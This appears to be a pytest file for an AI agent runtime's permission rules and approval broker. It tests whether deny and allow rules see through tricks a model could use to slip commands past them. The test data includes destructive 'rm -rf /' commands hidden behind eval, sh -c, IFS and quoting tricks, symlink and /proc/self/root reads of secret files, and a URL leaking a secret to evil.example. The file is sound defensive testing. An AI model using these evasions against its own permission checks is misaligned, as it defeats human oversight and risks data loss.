"""Adversarial rules, paths and approvers: what a model could send to slip past a rule or stall the runtime."""

from __future__ import annotations

import asyncio
import os
import random
import re
import time
from pathlib import Path

import pytest

from subagents import Runtime
from subagents.authority.approvals import ApprovalBroker, ApprovalRequest, Decision
from subagents.authority.permissions import Permissions
from subagents.authority.rules import parse_rule
from subagents.models import AgentInfo, FunctionModel, ModelRequest, ModelResponse, ToolCall


def allowed(rule: str, command: str) -> bool:
    return parse_rule(rule).matches("bash", {"command": command}, allow=True)


def denied(rule: str, command: str) -> bool:
    return parse_rule(rule).matches("bash", {"command": command}, allow=False)


# -- allow rules for bash: the shell must not read more into a command than the rule saw ------------------
@pytest.mark.parametrize("command", [
    "git status#;rm -rf ~",  # shlex read '#;rm -rf ~' as a comment; bash runs rm
    "git status a#b; rm -rf ~",
    "git status $'\\'' ; rm -rf ~ #'",  # ANSI-C quoting: shlex saw one word, bash a ';'
    "git status ${x:=\\$\\(touch pwned\\)} ${x@P}",  # prompt expansion runs the command substitution
    "git status $[x]",
])
def test_an_allow_rule_for_bash_is_not_matched_by_a_command_that_does_more(command: str) -> None:
    assert not allowed("bash(git status*)", command)


def test_a_real_comment_still_matches_an_allow_rule() -> None:
    assert allowed("bash(git status*)", "git status # look")


def test_a_dot_slash_command_is_not_a_program_on_path() -> None:
    assert not allowed("bash(./deploy.sh)", "deploy.sh")


def test_a_dot_slash_command_matches_itself() -> None:
    assert allowed("bash(./deploy.sh)", "./deploy.sh")


# -- deny rules for bash: grouping, keywords, wrappers, eval and sh -c do not hide the command -------------
@pytest.mark.parametrize("command", [
    "{ rm -rf /; }", "(rm -rf /)", "if true; then rm -rf /; fi", "while true; do rm -rf /; done", "! rm -rf /",
    "time rm -rf /", "command rm -rf /", "exec rm -rf /", "env A=1 rm -rf /", "sudo -u root rm -rf /",
    "nohup rm -rf / &", "timeout 5 rm -rf /", "echo / | xargs rm -rf", "rm${IFS}-rf${IFS}/", "rm$IFS-rf /",
    "sh -c 'rm -rf /'", 'bash -c "rm -rf /"', "sh -c 'true; rm -rf /'", "eval 'true; rm -rf /'",
    "bash -lc 'sh -c \"eval rm -rf /\"'",
])
def test_a_deny_rule_for_bash_sees_through_wrappers(command: str) -> None:
    assert denied("bash(rm -rf*)", command)


def test_a_deny_rule_still_ignores_a_word_that_is_only_an_argument() -> None:
    assert not denied("bash(rm *)", "echo rm -rf x")


def test_padding_with_nested_shells_cannot_hide_a_denied_command() -> None:
    command = "; ".join(["eval 'sh -c true'"] * 40 + ["eval 'rm -rf /'"])
    assert denied("bash(rm -rf*)", command)


def test_a_long_command_is_matched_in_linear_time() -> None:
    t0 = time.monotonic()
    denied("bash(*rm*-rf*)", "rm -r" * 6000)  # a regex of several .* took seconds here
    assert time.monotonic() - t0 < 1.0


def test_a_long_command_behind_a_wrapper_is_matched_quickly() -> None:
    t0 = time.monotonic()
    denied("bash(*rm*-rf*)", "sudo " + "eval sh -c " * 20000)
    assert time.monotonic() - t0 < 5.0


def test_the_star_glob_matches_like_the_regex_it_replaces() -> None:
    from subagents.authority.rules import _Glob

    rng = random.Random(7)
    for _ in range(3000):
        pattern = "".join(rng.choice("ab*?") for _ in range(rng.randint(0, 6)))
        text = "".join(rng.choice("ab") for _ in range(rng.randint(0, 7)))
        expected = re.fullmatch("".join(".*" if c == "*" else "." if c == "?" else c for c in pattern), text, re.S)
        assert _Glob(pattern).fullmatch(text) is (expected is not None), (pattern, text)


def test_the_star_glob_keeps_escapes_literal() -> None:
    from subagents.authority.rules import _Glob

    assert not _Glob("a\\*b").fullmatch("axb")


def test_a_literal_star_matches_itself() -> None:
    from subagents.authority.rules import _Glob

    assert _Glob("a\\*b").fullmatch("a*b")


# -- path rules: symlinks, /proc/self/root, huge paths ------------------------------------------------------
def test_a_deny_rule_follows_a_symlink_to_the_denied_file(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("SECRET=1")
    (tmp_path / "cfg").mkdir()
    os.symlink("../.env", tmp_path / "cfg" / "e")
    p = Permissions.from_texts(deny=["read_file(.env)"])
    assert p.decide("yolo", "read_file", "read", {"path": "cfg/e"}, root=str(tmp_path)).action == "deny"


def test_a_deny_rule_sees_the_workspace_through_proc_self_root(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "key.pem").write_text("k")
    p = Permissions.from_texts(deny=["read_file(secrets/key.pem)"])
    path = f"/proc/self/root{tmp_path}/secrets/key.pem"
    assert p.decide("yolo", "read_file", "read", {"path": path}, root=str(tmp_path)).action == "deny"


def test_an_allow_rule_does_not_follow_a_symlink_out_of_its_directory(tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "src").mkdir()
    os.symlink("../src", tmp_path / "docs" / "s")
    p = Permissions.from_texts(allow=["write_file(docs/**)"])
    assert p.decide("default", "write_file", "edit", {"path": "docs/s/main.py"}, root=str(tmp_path)).action == "ask"


def test_an_allow_rule_still_allows_a_new_file_in_its_directory(tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    p = Permissions.from_texts(allow=["write_file(docs/**)"])
    assert p.decide("default", "write_file", "edit", {"path": "docs/new.md"}, root=str(tmp_path)).action == "allow"


def test_a_huge_path_is_decided_at_once(tmp_path: Path) -> None:
    p = Permissions.from_texts(deny=["read_file(.env)"])
    t0 = time.monotonic()
    p.decide("yolo", "read_file", "read", {"path": "a/" * 20000 + "x"}, root=str(tmp_path))  # was quadratic
    assert time.monotonic() - t0 < 1.0


@pytest.mark.parametrize("pattern", ["*a*a*a*a*b", "**a**a**a**b", "**/*a*a*a*b"])
def test_a_path_rule_with_many_stars_is_matched_in_linear_time(pattern: str) -> None:
    rule = parse_rule(f"read_file({pattern})")  # Python's re backtracked: 60 s for the first on 255 letters
    t0 = time.monotonic()
    for path in ("a" * 255, "/".join(["a" * 200] * 20)):
        assert not rule.matches("read_file", {"path": path}, allow=False)
    assert time.monotonic() - t0 < 1.0


def _old_path_regex(pattern: str) -> re.Pattern[str]:
    """The backtracking regex the path rules used before (the meaning the RE2 version keeps)."""
    out = []
    i = 0
    while i < len(pattern):
        if pattern.startswith("**/", i):
            out.append("(?:.*/)?")
            i += 3
            continue
        if pattern.startswith("**", i):
            out.append(".*")
            i += 2
            continue
        c = pattern[i]
        out.append("[^/]*" if c == "*" else "[^/]" if c == "?" else re.escape(c))
        i += 1
    return re.compile("(?:" + "".join(out) + ")(?<=.)(?:/.*)?", re.S)


def test_the_path_glob_matches_like_the_regex_it_replaces() -> None:
    rng = random.Random(11)
    for _ in range(3000):
        pattern = "".join(rng.choice(["a", "b", "/", "*", "**", "**/", "?"]) for _ in range(rng.randint(1, 5)))
        text = "".join(rng.choice("ab/\n") for _ in range(rng.randint(0, 8)))
        old, path = _old_path_regex(pattern.removeprefix("./")), os.path.normpath(text)
        expected = old.fullmatch(path) is not None
        if "/" not in pattern.strip("/"):  # such a rule also matches any one component
            expected = expected or any(old.fullmatch(part) for part in path.split("/") if part)
        got = parse_rule(f"read_file({pattern})").matches("read_file", {"path": text}, allow=False)
        assert got is expected, (pattern, text)


def test_a_path_too_long_to_open_is_never_allowed_by_a_rule(tmp_path: Path) -> None:
    p = Permissions.from_texts(allow=["write_file(docs/**)"])
    v = p.decide("default", "write_file", "edit", {"path": "docs/" + "a" * 300}, root=str(tmp_path))
    assert v.action == "ask"


def test_a_rule_with_a_nul_byte_is_a_clear_error() -> None:
    with pytest.raises(ValueError, match="invalid permission rule"):
        parse_rule("read_file(.env\x00)")


# -- approvers ----------------------------------------------------------------------------------------------
def request() -> ApprovalRequest:
    return ApprovalRequest("r1", AgentInfo("a1", "ada", "general-purpose"), (), "bash", {"command": "ls"}, "why",
                           "default", "bash(ls)")


async def test_a_sync_approver_that_hangs_is_timed_out_without_stalling_the_loop() -> None:
    def approver(req: ApprovalRequest) -> Decision:
        time.sleep(1.5)
        return Decision.allow()

    t0 = time.monotonic()
    d = await ApprovalBroker(approver, timeout_s=0.2).decide(request())
    assert d.decided_by == "timeout"
    assert time.monotonic() - t0 < 1.2


async def test_an_approver_that_calls_sys_exit_denies() -> None:
    def approver(req: ApprovalRequest) -> Decision:
        raise SystemExit(3)

    d = await ApprovalBroker(approver).decide(request())
    assert d.decided_by == "approver error"


async def test_a_decision_that_neither_allows_nor_denies_is_a_denial_recorded_as_one() -> None:
    d = await ApprovalBroker(lambda req: Decision("maybe")).decide(request())  # type: ignore[arg-type]
    assert d.label() == "denied"


async def test_allow_always_for_a_blank_command_does_not_end_the_run(tmp_path: Path) -> None:
    def fn(req: ModelRequest) -> ModelResponse:
        done = [r.content for m in req.messages for r in m.tool_results]
        if len(done) < 2:
            return ModelResponse("", [ToolCall("bash", {"command": ["   ", "echo ok"][len(done)]})])
        return ModelResponse("\n".join(done))

    async def approver(req: ApprovalRequest) -> Decision:
        return Decision.allow_always()

    async with Runtime(FunctionModel(fn), workdir=tmp_path, store="memory://", approver=approver) as rt:
        r = await rt.run("go")
    assert "ok" in r.text


async def stubborn(req: ApprovalRequest) -> Decision:
    """An approver that swallows its cancellation and allows."""
    try:
        await asyncio.sleep(10)
    except asyncio.CancelledError:
        return Decision.allow()
    return Decision.deny()


async def test_an_approver_that_swallows_the_timeout_still_times_out() -> None:
    d = await ApprovalBroker(stubborn, timeout_s=0.1).decide(request())
    assert d.decided_by == "timeout"


async def test_an_approval_given_after_the_call_was_cancelled_does_not_let_it_run() -> None:
    task = asyncio.ensure_future(ApprovalBroker(stubborn).decide(request()))
    await asyncio.sleep(0.05)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task


def test_an_allow_rule_for_web_fetch_looks_at_the_url_only() -> None:
    r = parse_rule("web_fetch(https://docs.python.org/*)")
    args = {"url": "https://evil.example/?secret=1", "prompt": "https://docs.python.org/3/"}
    assert not r.matches("web_fetch", args, allow=True)


def test_an_allow_rule_for_another_tool_needs_every_string_argument_to_match() -> None:
    assert not parse_rule("my_tool(abc*)").matches("my_tool", {"target": "evil", "note": "abc"}, allow=True)


def test_a_deny_rule_for_another_tool_needs_one_string_argument_to_match() -> None:
    assert parse_rule("my_tool(abc*)").matches("my_tool", {"target": "evil", "note": "abc"}, allow=False)


@pytest.mark.parametrize(("rule", "url"), [
    ("web_fetch(domain:münchen.de)", "http://xn--mnchen-3ya.de/"),  # the client connects both to one host
    ("web_fetch(domain:xn--mnchen-3ya.de)", "http://münchen.de/"),
    ("web_fetch(domain:*.münchen.de)", "http://api.xn--mnchen-3ya.de/"),
    ("web_fetch(domain:faß.de)", "http://xn--fa-hia.de/"),
])
def test_a_domain_rule_matches_the_host_in_either_spelling(rule: str, url: str) -> None:
    assert parse_rule(rule).matches("web_fetch", {"url": url}, allow=False)


def test_a_domain_rule_still_ignores_the_rest_of_the_url() -> None:
    assert not parse_rule("web_fetch(domain:münchen.de)").matches(
        "web_fetch", {"url": "http://evil.com/?xn--mnchen-3ya.de"}, allow=False)


@pytest.mark.parametrize("command", ["git status; rm -rf ~", "ls | wc -l", "echo hi > f", "echo a\tb", "a\nb"])
def test_allow_always_on_a_compound_command_allows_that_command_again_and_nothing_more(command: str) -> None:
    from subagents.authority.rules import escape

    rule = parse_rule(f"bash({escape(command)})", "approval")  # what "allow always" adds (guard._always_rule)
    assert rule.matches("bash", {"command": command}, allow=True)  # was asked again for the identical command
    assert not rule.matches("bash", {"command": command + "; rm -rf /"}, allow=True)
